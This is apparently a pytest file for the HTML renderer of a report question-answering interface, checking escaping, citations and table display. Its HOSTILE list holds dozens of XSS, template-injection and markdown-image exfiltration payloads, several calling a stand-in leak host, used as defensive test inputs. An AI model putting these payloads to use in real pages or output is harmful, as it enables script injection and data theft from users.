"""What the page shows is escaped whatever it says, and keeps every character of the report where it stands."""

import html
import re
from html.parser import HTMLParser

import pytest
from scripted import REPORT, answer, cited

from corpus import document_from_text
from rag import AnswerSentence, Citation
from ui.render import Turn, conversation, escaped, evidence, lines_above, table_lines, verbatim, where
from ui.report import example_questions, report_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://127.0.0.1:9/leak?q=secret'>",
    "![x](http://127.0.0.1:9/leak)",
    "![x][leak]\n\n[leak]: http://127.0.0.1:9/leak",
    "[click](http://127.0.0.1:9/leak)",
    "[click](javascript:alert(1))",
    "<http://127.0.0.1:9/leak>",
    "http://127.0.0.1:9/leak",
    "<a href='http://127.0.0.1:9/leak'>more</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe src='http://127.0.0.1:9/leak'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href='http://127.0.0.1:9/leak'/></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video src='http://127.0.0.1:9/leak' autoplay></video>",
    "<video poster='http://127.0.0.1:9/leak'></video>",
    "<audio src='http://127.0.0.1:9/leak'></audio>",
    "<source srcset='http://127.0.0.1:9/leak'>",
    "<picture><source srcset='http://127.0.0.1:9/leak'><img></picture>",
    "<object data='http://127.0.0.1:9/leak'></object>",
    "<embed src='http://127.0.0.1:9/leak'>",
    "<link rel=stylesheet href='http://127.0.0.1:9/leak'>",
    "<style>body{background:url(http://127.0.0.1:9/leak)}</style>",
    "<div style='background:url(http://127.0.0.1:9/leak)'>x</div>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/leak'>",
    "<base href='http://127.0.0.1:9/'>",
    "<form action='http://127.0.0.1:9/leak'><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</p></div><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1)//<</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "${alert(1)}",
    "${window.fired = 1}` + alert(1) + `",
    "{{constructor.constructor('alert(1)')()}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}",
    "@children",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\u202e<img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "[a](#)<img src=x onerror=alert(1)>[b](\" onclick=\"alert(1))",
    "/gradio_api/file=http://127.0.0.1:9/leak",
    "![x](/gradio_api/file=http://127.0.0.1:9/leak)",
    "data:text/html,<script>alert(1)</script>",
]  # fmt: skip

SAFE_TAGS = {"section", "div", "p", "span", "button", "ul", "ol", "li", "h2", "h3", "h4", "h5", "h6", "article"} | {
    "table", "caption", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
SAFE_ATTRIBUTES = {"class", "role", "aria-label", "aria-busy", "aria-hidden", "title", "type", "scope", "colspan"} | {
    "data-document", "data-from", "data-to", "data-start", "data-end",
}  # fmt: skip


class Elements(HTMLParser):
    """All that is not plain text in a piece of HTML, and the text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.others: list[str] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def everything_saying(text: str) -> list[str]:
    """Every piece of the page, with these words wherever a model, a document or a person can put words."""
    citation = Citation(1, text, text, (text, "Part"), 3, 0, len(text))
    close = (citation, Citation(2, text, text, (), None, 0, 1))
    given = answer(text, [AnswerSentence(text, (1,), "partly")], [citation], notice=text, model=text)
    declined = answer(text, [], [], answered=False, nearest=close, never_mentioned=(text,))
    turns = [
        Turn(text, (citation,)),
        Turn(text, words=text),
        Turn(text, answer=given),
        Turn(text, answer=declined),
        Turn(text, trouble=text),
    ]
    return [
        conversation(turns, text),
        conversation([], text),
        *(evidence(turn) for turn in turns),
        report_html([document_from_text(text, text)]),
    ]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_stay_words(text):
    for piece in everything_saying(text):
        found = Elements(piece)
        assert found.tags <= SAFE_TAGS
        assert found.attributes <= SAFE_ATTRIBUTES
        assert found.others == []


@pytest.mark.parametrize("text", [text for text in HOSTILE if "\x00" not in text and "\u202e" not in text])
def test_hostile_words_are_shown_as_they_stand(text):
    assert text in Elements(conversation([Turn("?", words=text)], "")).text
    assert Elements(verbatim(text)).text == text


@pytest.mark.parametrize("character", ["\x00", "\x1b", "\x7f", "\x9b", "\u200b", "\u202e", "\u2066", "\ufeff", "\ud800", "\U000e0041"])
def test_characters_that_steer_a_display_are_replaced_one_for_one(character):
    assert escaped(f"a{character}b") == "a\ufffdb"


def test_every_character_of_the_report_stands_once_where_it_belongs():
    spans = re.findall(
        r'data-start="(\d+)" data-end="(\d+)">(.*?)</span>(?=<span data-start|<span class="cv-page|</| <)', report_html([REPORT])
    )
    shown = [0] * len(REPORT.text)
    for start, end, inner in spans:
        assert html.unescape(re.sub(r"<[^>]*>", "", inner)) == REPORT.text[int(start) : int(end)]
        for position in range(int(start), int(end)):
            shown[position] += 1
    assert all(count == 1 for count, character in zip(shown, REPORT.text, strict=True) if not character.isspace())


def test_report_has_its_headings_tables_and_pages():
    page = report_html([REPORT])
    assert page.count("<table>") >= 15
    assert re.search(r'<h2><span data-start="\d+" data-end="\d+">Effectiveness', page)
    assert '<span class="cv-page">p. 7</span>' in page


@pytest.mark.parametrize(
    "text", ["", "\n", "one line", "a\tb\nc\td\n", "no\r\nunix\r\nlines", "# Heading\n\nText 𝒳 [link](#).\n\n- item\n"]
)
def test_odd_documents_are_shown_whole(text):
    shown = Elements(report_html([document_from_text("Odd", text)])).text
    assert "".join(shown.split()) == "".join(text.split())


def test_examples_come_from_the_documents_own_headings():
    questions = example_questions([REPORT])
    assert len(questions) == 3
    assert all(question.split("“")[1].split("”")[0] in REPORT.text for question in questions)
    assert example_questions([document_from_text("Plain", "Nothing but a line.")]) == []


def test_answer_as_html():
    quote = "During our inspection there were about 2,000 crimes awaiting allocation, with delays of about 14 days."
    citation = cited(1, quote)
    given = answer("How many?", [AnswerSentence("About 2,000.", (1,), "supported"), AnswerSentence("Maybe.", (), "not found")], [citation])
    start, end, place = citation.start, citation.end, " › ".join(citation.heading_path)
    assert conversation([Turn("How many?", answer=given)], "") == (
        '<div class="cv-talk" role="log" aria-label="Conversation"><section class="cv-turn"><p class="cv-question">How many?</p>'
        '<div class="cv-answer"><p>'
        '<span class="cv-sentence">About 2,000.<span class="cv-marks">'
        f'<button class="cv-cite" type="button" data-document="{REPORT.title}" data-from="{start}" data-to="{end}" '
        f'aria-label="Citation 1: show the words in the report, {place}" title="{place}">1</button>'
        '<span class="cv-verdict cv-supported" role="img" aria-label="These words stand in the report; judge whether they answer" '
        'title="These words stand in the report; judge whether they answer">✓</span></span></span> '
        '<span class="cv-sentence">Maybe.<span class="cv-marks">'
        '<span class="cv-verdict cv-not-found" role="img" aria-label="Not found in the report" title="Not found in the report">?</span>'
        "</span></span></p>"
        '<p class="cv-timings">passages found after 0.1 s · first word after 0.6 s · answer after 1.9 s · model: scripted</p>'
        "</div></section></div>"
    )


def test_many_sentences_begin_a_line_each():
    quotes = ["Report a crime", "Meet an officer", "Read the notice"]
    given = answer("Which?", [AnswerSentence(quote, (), "supported") for quote in quotes], [])
    shown = conversation([Turn("Which?", answer=given)], "")
    assert [item.split(">", 1)[1].split("<")[0] for item in shown.split("<li>")[1:]] == quotes
    two = answer("Which?", list(given.sentences[:2]), [])
    assert "<li>" not in conversation([Turn("Which?", answer=two)], "")


def test_a_declined_answer_tells_which_words_the_report_never_uses_and_what_it_says_close_by():
    declined = answer("Is there a canteen?", [], [], answered=False, never_mentioned=("canteen", "2016"))
    assert '<p class="cv-never-mentioned">Nowhere in the report: canteen, 2016.</p>' in conversation([Turn("?", answer=declined)], "")
    shown = evidence(Turn("?", answer=declined))
    assert "Close by in the report, but no answer" in shown
    assert shown.count('class="cv-card"') == len(declined.nearest)
    assert "cv-number" not in shown


def test_declined_answer_offers_the_nearest_sections():
    declined = answer("Is there a canteen?", [], [], answered=False)
    shown = conversation([Turn("Is there a canteen?", answer=declined)], "")
    assert "The report does not say." in shown
    assert shown.count('class="cv-place"') == len(declined.nearest)


def test_extractive_answer_is_marked_as_such():
    given = answer("?", [AnswerSentence("Words.", (), "supported")], [], mode="extractive", notice="No model.")
    shown = conversation([Turn("?", answer=given)], "")
    assert "no model wrote this" in shown
    assert '<p class="cv-notice">No model.</p>' in shown


def test_where_leaves_out_what_is_unknown():
    assert where(("A", "B"), 4) == "A › B, p. 4"
    assert where(("A",), None) == "A"
    assert where((), None) == ""


def test_what_was_worked_out_is_marked_so():
    given = answer("Most?", [AnswerSentence("Ships is highest for Dover (12).", (), "supported", worked_out=True)], [])
    shown = conversation([Turn("Most?", answer=given)], "")
    assert "Worked out from the table rows quoted" in shown
    assert "These words stand in the report" not in shown


@pytest.mark.parametrize("gap", ["\t", " | ", "   "])
def test_rows_of_a_table_are_quoted_line_by_line(gap: str) -> None:
    table = "\n".join(gap.join(cells) for cells in (("Port", "Ships"), ("Dover", "12"), ("Deal", "3")))
    given = answer(
        "Most?",
        [AnswerSentence("Ships is highest for Dover (12).", (1,), "supported")],
        [Citation(1, table, "Harbour", ("Traffic",), None, 0, len(table))],
    )
    assert table_lines(table) == table.splitlines()
    assert "cv-rows" in evidence(Turn("Most?", answer=given))


def test_above_a_row_stand_the_caption_and_the_names_of_its_columns() -> None:
    citation = Citation(1, "Dover\t12", "Harbour", ("Traffic",), None, 30, 38, "Ships <in> 2019\n\n\tPort\tShips\t\n")
    assert lines_above(citation) == ["Ships <in> 2019", "Port\tShips"]
    shown = evidence(Turn("Most?", answer=answer("Most?", [AnswerSentence("Dover: 12.", (1,), "supported")], [citation])))
    assert shown.index("Ships &lt;in&gt; 2019\nPort") < shown.index("Dover<")


def test_a_sentence_broken_into_lines_is_no_table() -> None:
    assert table_lines("The harbour has\nthree quays.") == []
    assert table_lines("Dover\t12") == []


def test_what_was_worked_out_but_not_wholly_borne_out_is_marked_as_doubtful():
    given = answer("Most?", [AnswerSentence("Ships is highest for Dover (12).", (), "partly", worked_out=True)], [])
    shown = conversation([Turn("Most?", answer=given)], "")
    assert "Partly borne out" in shown
    assert "Worked out" not in shown
